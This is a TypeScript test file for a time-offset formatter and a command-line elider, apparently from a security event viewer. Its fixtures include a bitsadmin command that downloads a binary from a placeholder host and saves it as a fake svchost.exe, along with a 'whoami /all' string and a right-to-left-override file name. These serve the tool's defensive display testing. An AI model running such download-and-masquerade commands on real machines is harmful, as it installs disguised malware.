import { assert, integer, property, string } from 'fast-check';
import { describe, expect, test } from 'vitest';
import { deltaText } from './delta-text.ts';
import { elideCommandLine } from './elide-command-line.ts';

describe('the time since the parent', () => {
  test.each([
    [0, '+0 ms'],
    [41, '+41 ms'],
    [999.9, '+999 ms'],
    [2617, '+2.6 s'],
    [59_999, '+59.9 s'],
    [60_000, '+1:00'],
    [269_000, '+4:29'],
    [3 * 3_600_000 + 12 * 60_000, '+3 h 12'],
    [52 * 3_600_000, '+2 d 04'],
    [239.9 * 3_600_000, '+9 d 23'],
    [371 * 3_600_000, '+15 d'],
    [-124_000, '−2:04'],
    [-207, '−207 ms'],
  ])('%d ms is %s', (milliseconds, text) => {
    expect(deltaText(milliseconds)).toBe(text);
  });
});

describe('a command line in a cell', () => {
  const bits =
    'bitsadmin /transfer upd /download /priority foreground http://cdn-sync.example/svc.bin C:\\ProgramData\\svchost.exe';

  test('keeps its beginning and the first hit, with the number of characters between', () => {
    const parts = elideCommandLine(bits, 'programdata', 40);
    expect(parts).toEqual([
      { kind: 'text', text: 'bitsadmin', hit: false },
      { kind: 'cut', count: bits.indexOf('C:\\') - 'bitsadmin'.length },
      { kind: 'text', text: 'C:\\', hit: false },
      { kind: 'text', text: 'ProgramData', hit: true },
      { kind: 'text', text: '\\svchost.exe', hit: false },
    ]);
  });

  test('is whole where it fits, or where nothing in it has to be seen', () => {
    expect(elideCommandLine('whoami /all', '', 40)).toEqual([
      { kind: 'text', text: 'whoami /all', hit: false },
    ]);
    expect(elideCommandLine(bits, '', 40)).toEqual([{ kind: 'text', text: bits, hit: false }]);
  });

  test('never hides a hidden character', () => {
    const line = `${'a'.repeat(300)}\u202Egpj.exe`;
    const shown = elideCommandLine(line, '', 40);
    expect(shown.some((part) => part.kind === 'text' && part.text.slice(0, 40).includes('\u202E'))).toBe(
      true,
    );
  });

  test('loses nothing but what it counts', () => {
    assert(
      property(
        string({ unit: 'binary', maxLength: 300 }),
        string({ maxLength: 3 }),
        integer({ min: 5, max: 80 }),
        (line, needle, room) => {
          const parts = elideCommandLine(line, needle, room, 1000);
          const length = parts.reduce(
            (sum, part) => sum + (part.kind === 'cut' ? part.count : part.text.length),
            0,
          );
          expect(length).toBe(line.length);
          const first = parts[0];
          if (first?.kind === 'text') expect(line.startsWith(first.text)).toBe(true);
          const last = parts.at(-1);
          if (last?.kind === 'text') expect(line.endsWith(last.text)).toBe(true);
        },
      ),
    );
  });
});
